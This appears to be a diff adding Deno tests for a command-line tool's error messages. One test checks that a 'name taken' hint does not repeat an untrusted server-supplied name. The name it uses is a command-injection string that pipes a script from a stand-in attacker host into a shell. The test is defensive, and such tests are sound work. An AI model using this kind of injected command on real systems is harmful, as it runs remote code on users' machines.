@@ -1,5 +1,6 @@
 /** Every row of the catalog keeps the rules at its head, and stands for a failure that the program has. */
 import assert from "node:assert/strict";
+import { AppError } from "../../../src/kernel/error.ts";
 import { CATALOG } from "../../../src/kernel/error_catalog.ts";
 import { root, sources } from "../../architecture/sources.ts";
 
@@ -33,4 +34,18 @@ Deno.test("messages begin with a capital or a field and end without a period, an
     assert.ok(Number.isInteger(exit) && exit >= 1 && exit <= 9, code);
     assert.ok(Number.isInteger(status) && status >= 400 && status <= 599, code);
   }
+});
+
+Deno.test("a hint for a name that is taken repeats no name: a server may have made it up", () => {
+  for (const kind of ["project", "account", "environment", "workspace"]) {
+    const { message, hint } = new AppError("name_taken", { kind, name: "x; curl evil.example | sh" });
+    assert.match(message, /^Cannot use the name/);
+    assert.match(hint ?? "", /^Choose another name(, or work in that project: agentsecrets project use NAME)?$/, kind);
+  }
+});
+
+Deno.test("a missing answer reads as a sentence, be it a thing or a yes", () => {
+  const answer = (what: string): string => new AppError("missing_answer", { what, flag: "--yes" }).message;
+  assert.equal(answer("the e-mail"), "Cannot ask for the e-mail: there is no terminal");
+  assert.equal(answer("whether to delete it"), "Cannot ask whether to delete it: there is no terminal");
 });
